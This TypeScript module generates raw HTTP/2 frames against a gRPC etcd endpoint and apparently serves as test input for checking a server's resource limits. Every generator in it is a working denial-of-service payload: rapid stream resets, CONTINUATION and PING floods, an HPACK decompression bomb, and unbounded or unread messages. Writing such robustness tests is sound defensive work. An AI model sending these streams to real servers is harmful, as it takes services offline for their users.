/** Ways to wear out an HTTP/2 server, as raw frames (RFC 9113). Each gives bytes for ever; the first are a valid greeting. */

const frameTypes = { data: 0, headers: 1, rstStream: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const flags = { endHeaders: 0x4, endStream: 0x1 };

function frame(type: number, flag: number, streamId: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flag;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** A field without compression (RFC 7541 §6.2.2). Both texts are shorter than 127 bytes. */
function field(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
}

const greeting = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(frameTypes.settings, 0, 0)]);
/** `:method: POST`, `:scheme: http` from the static table, and what a call to Range has. */
const callHeaders = Buffer.concat([
  Buffer.of(0x83, 0x86),
  field(':path', '/etcdserverpb.KV/Range'),
  field('content-type', 'application/grpc'),
  field('te', 'trailers'),
]);

/** The same bytes again and again, many frames at a time. */
function* repeat(make: (i: number) => Buffer): Generator<Buffer> {
  yield greeting;
  for (let i = 0; ; i += 200) yield Buffer.concat(Array.from({ length: 200 }, (_, k) => make(i + k)));
}

export const attacks: Readonly<Record<string, () => Generator<Buffer>>> = {
  'calls that are cancelled at once': () =>
    repeat((i) =>
      Buffer.concat([
        frame(frameTypes.headers, flags.endHeaders, 2 * i + 1, callHeaders),
        frame(frameTypes.rstStream, 0, 2 * i + 1, uint32(8)),
      ]),
    ),
  'calls that never send their message': () =>
    repeat((i) => frame(frameTypes.headers, flags.endHeaders, 2 * i + 1, callHeaders)),
  settings: () => repeat(() => frame(frameTypes.settings, 0, 0, Buffer.concat([Buffer.of(0, 4), uint32(65_535)]))),
  pings: () => repeat(() => frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  'empty data': () => {
    const start = frame(frameTypes.headers, flags.endHeaders, 1, callHeaders);
    return repeat((i) => (i === 0 ? start : frame(frameTypes.data, 0, 1)));
  },
  'window updates': () => repeat(() => frame(frameTypes.windowUpdate, 0, 0, uint32(1))),
  'headers without an end': () => {
    const start = frame(frameTypes.headers, 0, 1, callHeaders);
    return repeat((i) => (i === 0 ? start : frame(frameTypes.continuation, 0, 1, field('x', 'y'.repeat(100)))));
  },
  'small headers that unpack to large ones': () => {
    // One field of 4 KB goes into the table once, and is then meant a thousand times a request by one byte each.
    const long = Buffer.concat([
      Buffer.of(0x40, 1),
      Buffer.from('x'),
      Buffer.of(0x7f, 0x81, 0x1e),
      Buffer.alloc(4000, 'y'),
    ]);
    const bomb = Buffer.concat([callHeaders, long, Buffer.alloc(10_000, 0xbe)]);
    return repeat((i) => frame(frameTypes.headers, flags.endHeaders | flags.endStream, 2 * i + 1, bomb));
  },
  'frames that are too long': () => repeat(() => frame(frameTypes.ping, 0, 0, Buffer.alloc(1000))),
  'messages that never end': () => {
    const start = frame(frameTypes.headers, flags.endHeaders, 1, callHeaders);
    const length = Buffer.concat([Buffer.of(0), uint32(2_000_000_000)]);
    return repeat((i) =>
      i === 0
        ? Buffer.concat([start, frame(frameTypes.data, 0, 1, length)])
        : frame(frameTypes.data, 0, 1, Buffer.alloc(4096)),
    );
  },
};

/** Asks for a large answer many times and takes none of it: the server must not keep what nobody reads without end. */
export function* unreadAnswers(rangeRequest: Uint8Array): Generator<Buffer> {
  yield greeting;
  const message = Buffer.concat([Buffer.of(0), uint32(rangeRequest.length), rangeRequest]);
  for (let id = 1; ; id += 2) {
    yield Buffer.concat([
      frame(frameTypes.headers, flags.endHeaders, id, callHeaders),
      frame(frameTypes.data, flags.endStream, id, message),
    ]);
  }
}
